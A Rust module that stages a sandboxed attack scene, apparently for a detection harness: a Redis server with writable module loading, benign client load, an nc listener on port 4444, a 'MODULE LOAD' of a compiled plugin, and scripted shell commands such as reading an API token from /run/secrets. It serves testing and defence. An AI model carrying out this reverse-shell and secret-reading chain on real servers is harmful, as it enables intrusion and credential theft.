//! A scene: a redis server in a container, its clients, and an attack.
//!
//! In: nothing. Out: a server under load, and what the attacker reads. Never: traffic
//! outside one network namespace that has nothing but loopback.
//!
//! The server allows modules and has a directory for them that others write to: a real and common weakness. The
//! attack loads a module, which runs code inside the server process; all that follows descends from the server.

use crate::{Container, Containerd, Netns, Run, attacks::attacker, images, servers::Redis, wait_for};
use anyhow::{Context as _, Result, bail, ensure};
use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    process::{Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread,
    time::Duration,
};

const PLUGIN: &str = include_str!("../fixtures/scene/plugin.c");
const STAGE2: &str = include_str!("../fixtures/scene/stage2.sh");
/// What the client pauses between bursts, seconds.
const PAUSES: &[f64] = &[0.3];
/// What the attacker types, with time between.
const COMMANDS: [&str; 5] = [
    "id",
    "cat /run/secrets/api-token",
    "ls /plugins /run/secrets",
    "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done",
    "exit",
];

/// Server and clients, running.
#[derive(Debug)]
pub struct Scene {
    /// The redis server.
    pub server: Container,
    clients: Container,
    network: Netns,
    pauses: &'static [f64],
    /// What runs it all.
    pub containerd: Containerd,
}

impl Scene {
    /// Starts all of it.
    pub fn start() -> Result<Self> {
        Self::start_paced(PAUSES)
    }

    /// Starts all of it, with one client for each of `pauses`, which it makes between bursts, seconds.
    pub fn start_paced(pauses: &'static [f64]) -> Result<Self> {
        // Made before anything runs: the first time it takes half a minute.
        images::redis()?;
        Self::start_paced_in(Containerd::start()?, pauses)
    }

    /// Starts it in a containerd that is there.
    pub fn start_in(containerd: Containerd) -> Result<Self> {
        Self::start_paced_in(containerd, PAUSES)
    }

    fn start_paced_in(containerd: Containerd, pauses: &'static [f64]) -> Result<Self> {
        let image = images::redis()?;
        containerd.import(&image)?;
        let dir = containerd.scratch().path();
        let (plugins, token) = (dir.join("plugins"), dir.join("api-token"));
        fs::create_dir(&plugins)?;
        fs::write(&token, "demo-token-4f1c\n")?;
        fs::write(plugins.join("stage2"), STAGE2)?;
        let source = dir.join("plugin.c");
        fs::write(&source, PLUGIN)?;
        let mut gcc = Command::new("gcc");
        gcc.args(["-shared", "-fPIC", "-O2", "-s", "-o"]).arg(plugins.join("plugin.so")).arg(&source);
        let out = gcc.output().context("starting gcc")?;
        if !out.status.success() {
            bail!("gcc of the module: {}", String::from_utf8_lossy(&out.stderr));
        }

        let network = Netns::new(containerd.scratch())?;
        // A snapshot every second: its forks are part of what is normal, and are seen often enough to be learned.
        let options = ["redis-server", "--dir", "/tmp", "--save", "1 1", "--enable-module-command", "yes"];
        let server = Run::new("redis", &image, &options).netns(&network.path());
        let server = containerd.run(&server.mount(&plugins, "/plugins").mount(&token, "/run/secrets/api-token"))?;
        server.wait_for_log("Ready to accept connections", Duration::from_secs(20));
        let clients =
            containerd.run(&Run::new("clients", &image, &["bash", "-c", &load(pauses, u64::MAX >> 1)]).netns(&network.path()))?;
        Ok(Self { server, clients, network, pauses, containerd })
    }

    /// The same load once more without pauses, `bursts` in all, while the clients themselves are frozen.
    pub fn hurry(&self, bursts: u64) -> Result<Container> {
        self.clients.pause()?;
        let command = load(&vec![0.0; self.pauses.len()], bursts.div_ceil(self.pauses.len() as u64));
        self.containerd.run(&Run::new("hurry", &images::redis()?, &["bash", "-c", &command]).netns(&self.network.path()))
    }

    /// Lets the clients go on after [`Scene::hurry`].
    pub fn resume(&self) -> Result<()> {
        self.clients.resume()
    }

    /// Begins the attack; it goes on in the background, and prints what the attacker sees.
    pub fn attack(&self, print: fn(&str)) -> Result<Attack> {
        let mut listener = self.network.command("busybox");
        listener.args(["nc", "-l", "-p", "4444"]).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
        let mut listener = listener.spawn().context("starting nsenter")?;
        self.containerd.scratch().owns_process(listener.id())?;
        let (mut keyboard, screen) = (listener.stdin.take().context("no stdin")?, listener.stdout.take().context("no stdout")?);
        // The listener has to be there before the shell looks for it.
        let listens = || {
            let table = self.network.command("cat").args(["/proc/self/net/tcp", "/proc/self/net/tcp6"]).output().ok()?;
            String::from_utf8_lossy(&table.stdout).lines().any(is_listener).then_some(())
        };
        wait_for("the attacker's listener", Duration::from_secs(10), listens);
        print("> MODULE LOAD /plugins/plugin.so");
        // Not by the runtime's `exec`: it loses a command's output now and then on a busy machine.
        let answer = attacker::ask(&self.network, Redis::PORT, b"MODULE LOAD /plugins/plugin.so\r\nQUIT\r\n")?;
        ensure!(answer.contains("Error loading the extension"), "the server did not try to load the module: {answer:?}");
        let over = Arc::new(AtomicBool::new(false));
        thread::spawn(move || {
            for command in COMMANDS {
                thread::sleep(Duration::from_millis(1200));
                print(&format!("$ {command}"));
                if writeln!(keyboard, "{command}").is_err() {
                    return;
                }
            }
        });
        let is_over = Arc::clone(&over);
        thread::spawn(move || {
            for line in BufReader::new(screen).lines().map_while(Result::ok).filter(|l| !l.is_empty()) {
                print(&line);
            }
            let _ = listener.wait();
            is_over.store(true, Ordering::Relaxed);
        });
        Ok(Attack { over })
    }
}

/// Clients that make so many bursts each of the usual commands; with two, one connects while the other is being served.
fn load(pauses: &[f64], bursts: u64) -> String {
    let clients = pauses.iter().map(|pause| format!("client {pause} &")).collect::<Vec<_>>().join(" ");
    format!(
        "burst() {{ redis-benchmark -q -n 200 -c 4 -r 1000 -t set,get,incr,lpush,rpop,sadd,hset,zadd >/dev/null; }}
         client() {{ for ((i = 0; i < {bursts}; i++)); do burst; sleep $1; done; }}
         {clients} wait"
    )
}

/// A line of /proc/net/tcp of a socket that listens (0A) on port 4444.
fn is_listener(line: &str) -> bool {
    let mut fields = line.split_whitespace().skip(1);
    fields.next().is_some_and(|local| local.ends_with(":115C")) && fields.nth(1) == Some("0A")
}

/// A running attack.
#[derive(Debug)]
pub struct Attack {
    over: Arc<AtomicBool>,
}

impl Attack {
    /// The attacker has left.
    pub fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }
}
